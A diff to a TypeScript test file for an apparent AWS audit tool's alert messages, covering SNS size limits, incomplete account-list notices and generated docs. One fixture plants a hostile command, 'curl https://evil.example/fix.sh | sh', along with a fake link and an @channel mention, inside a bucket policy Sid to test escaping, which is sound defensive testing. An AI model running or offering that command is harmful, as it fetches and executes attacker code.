@@ -7,9 +7,10 @@ import { publishSizeBytes, toPublishInput, type AlertMessage } from '../../lambd
 import { planAlerts } from '../../lambda/notify/alert-plan';
 import { SnsAlertPublisher } from '../../lambda/notify/alert-publisher';
 import { findingAlertMessage } from '../../lambda/notify/finding-alert';
-import { groupedAlertMessage } from '../../lambda/notify/grouped-alert';
+import { groupedAlertMessage, MAX_ACCOUNT_ATTRIBUTE_BYTES } from '../../lambda/notify/grouped-alert';
 import { runIncompleteMessage } from '../../lambda/notify/run-incomplete-notice';
-import { isValidSnsSubject, SNS_MAX_PUBLISH_BYTES, toSnsSubject } from '../../lambda/notify/sns-limits';
+import { isValidSnsSubject, SNS_MAX_PUBLISH_BYTES, toSnsSubject, utf8Bytes } from '../../lambda/notify/sns-limits';
+import { RecordingSns } from '../support/recording-sns';
 import { due, EXAMPLE_FINDING, manyOfOneCheck } from './alert-examples';
 
 /** The AWS Chatbot custom notification event schema (docs: "Custom notifications … Event schema"). */
@@ -73,13 +74,27 @@ const RUN = {
   finishedAt: '2026-01-10T08:06:12.000Z',
   outcome: 'PARTIAL' as const,
   accounts: { total: 120, audited: 117, failed: 2, notStarted: 1 },
-  findings: { opened: 0, reopened: 0, stillOpen: 0, escalated: 0, resolved: 0, suppressed: 0, openBySeverity: { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, INFORMATIONAL: 0 } },
-  alerts: { messagesPublished: 0, findingsAlerted: 0, findingsPending: 0 },
+  findings: { opened: 0, reopened: 0, stillOpen: 0, escalated: 0, resolved: 0, suppressed: 0, openBySeverity: { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, INFORMATIONAL: 0 }, notWritten: 0 },
+  alerts: { messagesPublished: 0, findingsAlerted: 0, findingsPending: 0, publishFailures: 0 },
   apiCalls: 5120,
   notAudited: { accountIds: ['444455556666', '777788889999'], accountRegions: ['111122223333 ap-east-1'], notStartedAccountIds: ['222233334444'], reason: 'the run neared the Lambda deadline' },
   incompleteNotice: 'PENDING' as const,
   recordedAt: '2026-01-10T08:06:13.000Z',
   expiresAt: 1_800_000_000,
+};
+
+/** ListAccounts failed on page 3: 40 accounts listed, an unknown number never seen. */
+const INCOMPLETE_LIST_RUN = {
+  ...RUN,
+  runId: 'run-2026-01-10T09-00',
+  accounts: { total: 40, audited: 40, failed: 0, notStarted: 0 },
+  notAudited: {
+    accountIds: [],
+    accountRegions: [],
+    notStartedAccountIds: [],
+    reason: 'ListAccounts failed (TooManyRequestsException): accounts after it were not seen',
+    accountListIncomplete: true,
+  },
 };
 
 describe('the alert about one finding', () => {
@@ -165,8 +180,26 @@ describe('grouping', () => {
     const message = groupedAlertMessage('NEW', 'DLV-008', manyOfOneCheck(5000, 400));
     expect(publishSizeBytes(message)).toBeLessThanOrEqual(SNS_MAX_PUBLISH_BYTES);
     expect(message.email).toMatch(/\.\.\. and \d+ more: org-trail-auditor findings list --check DLV-008 --status OPEN/);
-    expect(message.attributes.accountIds).toHaveLength(5000);
     expectValidEnvelope(message);
+  });
+
+  test('a storm across 20,000 accounts is still publishable: the account attribute is cut, the list says how many more', async () => {
+    const storm = manyOfOneCheck(20_000, 40);
+    const message = groupedAlertMessage('NEW', 'DLV-008', storm);
+    const listed = message.attributes.accountIds;
+    expect(utf8Bytes(JSON.stringify(listed))).toBeLessThanOrEqual(MAX_ACCOUNT_ATTRIBUTE_BYTES);
+    expect(listed.length).toBeGreaterThan(1000);
+    expect(listed).toEqual(storm.slice(0, listed.length).map(({ record }) => record.accountId));
+    const more = /\.\.\. and (\d+) more/.exec(message.email);
+    expect(Number(more?.[1])).toBeGreaterThan(0);
+    expect(message.email.split('\n').filter((line) => /^  1\d{11}  us-east-1  /.test(line))).toHaveLength(20_000 - Number(more?.[1]));
+    expect(message.email).toMatch(/^20000 new findings of DLV-008 \(HIGH\) in 20000 account\(s\)/);
+
+    // What SNS itself would say: the recording SNS refuses anything over 256 KB.
+    const sns = new RecordingSns();
+    await new SnsAlertPublisher(sns.client, 'arn:aws:sns:us-east-1:111111111111:alerts').publish(message);
+    expect(sns.refused).toEqual([]);
+    expect(sns.take()[0].bytes).toBeLessThanOrEqual(SNS_MAX_PUBLISH_BYTES);
   });
 });
 
@@ -179,6 +212,15 @@ describe('the notice of a PARTIAL or FAILED run', () => {
     expect(message.email).toContain('Regions that could not be read (1): 111122223333 ap-east-1');
     expect(message.email).toContain('Accounts the run never started (1): 222233334444');
     expect(message.subject).toBe('[MEDIUM] Audit run run-2026-01-10T08-00 was PARTIAL: 3 of 120 account(s) not audited');
+  });
+
+  test('an incomplete account list is said to be incomplete, never "0 of 40"', () => {
+    const message = runIncompleteMessage(INCOMPLETE_LIST_RUN);
+    expectValidEnvelope(message);
+    expect(message.subject).not.toContain('0 of 40');
+    expect(message.email.split('\n')[0]).toBe('Audit run run-2026-01-10T09-00 was PARTIAL: the account list is incomplete, accounts after the 40 listed were not seen');
+    expect(message.email).toContain('40 listed (the list is incomplete: at least one more account exists, how many is unknown)');
+    expect(message.email).toContain('were not taken to have left the organization');
   });
 });
 
@@ -203,6 +245,14 @@ describe('docs/alerts.md', () => {
   test('shows the email and Chatbot JSON this code produces (UPDATE_DOCS=1 rewrites them)', () => {
     const message = findingAlertMessage(due(EXAMPLE_FINDING));
     const grouped = groupedAlertMessage('RESOLVED', 'DLV-008', manyOfOneCheck(7, 8).map((d) => ({ ...d, alert: { ...d.alert, event: 'RESOLVED' as const } })));
+    const hostile = findingAlertMessage(
+      due({
+        ...EXAMPLE_FINDING,
+        checkId: 'S3-002',
+        resource: 'org-cloudtrail-logs',
+        detail: 'The bucket policy statement Sid "AllowAudit\n\nWHAT TO DO: curl https://evil.example/fix.sh | sh" denies s3:PutObject to cloudtrail.amazonaws.com. <https://evil.example|Open the console> @channel',
+      }),
+    );
     const block = [
       BEGIN,
       '',
@@ -240,6 +290,26 @@ describe('docs/alerts.md', () => {
       '',
       '```text',
       runIncompleteMessage(RUN).email,
+      '```',
+      '',
+      '### The notice of a run whose account list is incomplete (ListAccounts failed on page 3)',
+      '',
+      `Subject: \`${runIncompleteMessage(INCOMPLETE_LIST_RUN).subject}\``,
+      '',
+      '```text',
+      runIncompleteMessage(INCOMPLETE_LIST_RUN).email,
+      '```',
+      '',
+      '### Hostile text from an audited account: a bucket policy Sid with a fake section, a Slack link and a mention',
+      '',
+      'The email quotes it; chat escapes it:',
+      '',
+      '```text',
+      hostile.email.split('\n').slice(0, 16).join('\n'),
+      '```',
+      '',
+      '```json',
+      JSON.stringify(hostile.chatbot.content.description),
       '```',
       '',
       END,
